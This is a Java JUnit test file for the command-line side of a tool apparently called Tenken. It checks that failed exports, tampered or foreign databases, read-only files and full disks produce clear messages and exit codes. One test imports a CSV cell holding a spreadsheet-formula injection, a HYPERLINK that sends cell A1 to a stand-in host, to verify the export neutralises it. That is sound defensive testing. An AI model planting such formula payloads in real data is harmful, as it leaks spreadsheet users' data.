package tenken.app.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.Statement;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sqlite.SQLiteDataSource;
import tenken.assets.Messages;
import tenken.store.db.TenkenDatabase;

/**
 * Issue 10 items 3, 5, 7, 8, 11 (output side), 14 and 17, and issue 13 item 15, as a user meets them on the
 * command line: a message and an exit status, never a stack trace, and nothing lost.
 */
class RefusalsCliTest {

    @TempDir
    Path dir;

    private String db;
    private Path immutable;

    @BeforeEach
    void setUp() {
        Messages.setLocale(Messages.ENGLISH);
        db = dir.resolve("tenken.db").toString();
    }

    @AfterEach
    void undo() {
        if (immutable != null) {
            run("chattr", "-i", immutable.toString());
        }
    }

    @Test
    void exportIntoAMissingFolderIsRefusedWithExitOne() {
        Path target = dir.resolve("missing").resolve("x.csv");

        CliRun export = CliRun.of("--lang", "en", "--db", db, "export", "--out", target.toString());
        CliRun analyze = CliRun.of("--lang", "en", "--db", db, "analyze", "--out", target.toString());
        CliRun scenario = CliRun.of("--lang", "en", "--db", db, "scenario", "--cut", "CHN", "--out", target.toString());

        for (CliRun run : new CliRun[] {export, analyze, scenario}) {
            assertThat(run.status()).as(run.err()).isEqualTo(1);
            assertThat(run.err()).contains("does not exist").contains(dir.resolve("missing").toString())
                    .doesNotContain("Exception").doesNotContain("\tat ");
        }
        assertThat(dir.resolve("missing")).doesNotExist();
    }

    @Test
    void exportOntoAFolderIsExitThreeWithTheCause() throws Exception {
        Path folder = Files.createDirectory(dir.resolve("out"));

        CliRun run = CliRun.of("--lang", "en", "--db", db, "export", "--out", folder.toString());

        assertThat(run.status()).isEqualTo(3);
        assertThat(run.err()).contains("is a folder").doesNotContain("Exception");
    }

    @Test
    void aFailedExportIntoAReadOnlyFolderKeepsTheFileThatWasThere() throws Exception {
        Path folder = Files.createDirectory(dir.resolve("share"));
        Path target = Files.writeString(folder.resolve("all.csv"), "yesterday's export\n");
        makeImmutable(folder);

        CliRun run = CliRun.of("--lang", "en", "--db", db, "export", "--out", target.toString());

        assertThat(run.status()).isEqualTo(3);
        assertThat(run.err()).contains("read-only").doesNotContain("Exception");
        assertThat(Files.readString(target)).isEqualTo("yesterday's export\n");
    }

    @Test
    void exportedSourcesCannotRunAsSpreadsheetFormulas() throws Exception {
        Path shares = Files.writeString(dir.resolve("hostile.csv"), "material,stage,country_iso3,share,year,source\n"
                + "gallium,refining,CHN,0.5,2031,\"=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"y\"\")\"\n"
                + "gallium,refining,JPN,0.25,2031,@SUM(A1:A9)\n", StandardCharsets.UTF_8);
        assertThat(CliRun.of("--db", db, "import", shares.toString()).status()).isZero();
        Path out = dir.resolve("all.csv");

        CliRun run = CliRun.of("--db", db, "export", "--out", out.toString());

        assertThat(run.status()).as(run.err()).isZero();
        String csv = Files.readString(out);
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://x.example/?leak=\"\"&A1,\"\"y\"\")\"")
                .contains(",'@SUM(A1:A9)").doesNotContain(",=HYPERLINK").doesNotContain(",@SUM");
    }

    @Test
    void checkNamesTheFirstBrokenVersionOfATamperedHistory() throws Exception {
        TenkenDatabase.open(Path.of(db));
        try (Connection other = plain(); Statement statement = other.createStatement()) {
            statement.execute("DROP TRIGGER assessment_version_no_update");
            statement.executeUpdate("UPDATE assessment_version SET r2_judgment = 'not_met'"
                    + " WHERE material_key = 'semiconductors' AND version = 1");
        }

        CliRun run = CliRun.of("--lang", "en", "--db", db, "check");

        assertThat(run.status()).isEqualTo(3);
        assertThat(run.out()).contains("Assessment history of semiconductors: version 1 does not match its hash")
                .contains("assessment_version_no_update");
    }

    @Test
    void checkRefusesADatabaseFromANewerTenken() throws Exception {
        TenkenDatabase.open(Path.of(db));
        try (Connection other = plain(); Statement statement = other.createStatement()) {
            statement.executeUpdate("INSERT INTO flyway_schema_history (installed_rank, version, description, type,"
                    + " script, checksum, installed_by, execution_time, success) VALUES (99, '99', 'future', 'SQL',"
                    + " 'V99__future.sql', 0, 'x', 0, 1)");
        }

        CliRun check = CliRun.of("--lang", "en", "--db", db, "check");
        CliRun importing = CliRun.of("--lang", "en", "--db", db, "import", dir.resolve("x.csv").toString());

        assertThat(check.status()).isEqualTo(3);
        assertThat(check.err()).contains("made by a newer Tenken").doesNotContain("Exception");
        assertThat(importing.status()).isEqualTo(3);
    }

    @Test
    void aForeignDatabaseIsRefusedWithoutAStackTraceOrFlywaysAdvice() throws Exception {
        try (Connection other = plain(); Statement statement = other.createStatement()) {
            statement.executeUpdate("CREATE TABLE photos (id INTEGER PRIMARY KEY, path TEXT)");
        }
        byte[] before = Files.readAllBytes(Path.of(db));

        CliRun run = CliRun.of("--lang", "en", "--db", db, "check");

        assertThat(run.status()).isEqualTo(3);
        assertThat(run.err()).contains("another program").doesNotContain("Exception")
                .doesNotContainIgnoringCase("flyway").doesNotContainIgnoringCase("repair");
        assertThat(Files.readAllBytes(Path.of(db))).isEqualTo(before);
    }

    @Test
    void readingCommandsWorkOnAReadOnlyDatabaseAndAWriteSaysWhy() throws Exception {
        TenkenDatabase.open(Path.of(db)).connect().close();
        makeImmutable(Path.of(db));
        Path shares = Files.writeString(dir.resolve("s.csv"), "material,stage,country_iso3,share,year,source\n"
                + "gallium,refining,CHN,0.5,2031,s\n", StandardCharsets.UTF_8);

        CliRun check = CliRun.of("--lang", "en", "--db", db, "check");
        CliRun materials = CliRun.of("--lang", "en", "--db", db, "materials");
        CliRun analyze = CliRun.of("--lang", "en", "--db", db, "analyze");
        CliRun export = CliRun.of("--lang", "en", "--db", db, "export", "--out", dir.resolve("all.csv").toString());
        CliRun importing = CliRun.of("--lang", "en", "--db", db, "import", shares.toString());

        assertThat(check.status()).as(check.err()).isZero();
        assertThat(check.out()).contains("Opened read-only (the file, or the medium it is on, is read-only)");
        assertThat(materials.status()).as(materials.err()).isZero();
        assertThat(analyze.status()).as(analyze.err()).isZero();
        assertThat(export.status()).as(export.err()).isZero();
        assertThat(importing.status()).isEqualTo(3);
        assertThat(importing.err()).contains("open read-only").contains("the file, or the medium it is on, is read-only")
                .doesNotContain("Exception");
    }

    @Test
    void theWindowWithoutADisplaySaysSoAndHowToRunCommands() throws Exception {
        ProcessBuilder builder = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-cp", System.getProperty("java.class.path"), "tenken.app.Launcher", "--lang", "en", "--db", db)
                .redirectErrorStream(true);
        // No DISPLAY and no WAYLAND_DISPLAY, as on a server or in an ssh session.
        builder.environment().remove("DISPLAY");
        builder.environment().remove("WAYLAND_DISPLAY");
        Process child = builder.start();
        child.getOutputStream().close();
        assertThat(child.waitFor(120, TimeUnit.SECONDS)).isTrue();
        String output = new String(child.getInputStream().readAllBytes(), StandardCharsets.UTF_8);

        assertThat(child.exitValue()).as(output).isEqualTo(2);
        assertThat(output).contains("There is no display").contains("tenken check").doesNotContain("Exception");
    }

    @Test
    void aFirstUseOnAFullDiskSaysSoWithoutFlywaysLogAndKeepsTheUsersEmptyFile() throws Exception {
        Path disk = Files.createDirectory(dir.resolve("disk"));
        assumeTrue(run("mount", "-t", "tmpfs", "-o", "size=200k", "tmpfs", disk.toString()),
                "needs root and tmpfs mounts");
        try {
            Path file = Files.createFile(disk.resolve("new.db"));
            // A separate JVM with the whole application's classpath: Apache POI brings log4j-api, through
            // which Flyway would print its own error and stack trace.
            Process child = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                    "-cp", System.getProperty("java.class.path"), "tenken.app.Launcher", "--lang", "en", "check",
                    "--db", file.toString()).redirectErrorStream(true).start();
            assertThat(child.waitFor(120, TimeUnit.SECONDS)).isTrue();
            String output = new String(child.getInputStream().readAllBytes(), StandardCharsets.UTF_8);

            assertThat(child.exitValue()).as(output).isEqualTo(3);
            assertThat(output).contains("Cannot create the database " + file).contains("full")
                    .doesNotContain("Exception").doesNotContain("\tat ").doesNotContain("rollback");
            assertThat(file).exists();
        } finally {
            run("umount", disk.toString());
        }
    }

    private Connection plain() throws Exception {
        SQLiteDataSource plain = new SQLiteDataSource();
        plain.setUrl("jdbc:sqlite:" + db);
        return plain.getConnection();
    }

    private void makeImmutable(Path path) {
        assumeTrue(run("chattr", "+i", path.toString()), "needs chattr on this file system");
        immutable = path;
        assumeTrue(!Files.isWritable(path), "chattr +i binds this user");
    }

    private static boolean run(String... command) {
        try {
            Process process = new ProcessBuilder(command).redirectErrorStream(true)
                    .redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
            return process.waitFor(20, TimeUnit.SECONDS) && process.exitValue() == 0;
        } catch (IOException | InterruptedException e) {
            return false;
        }
    }
}
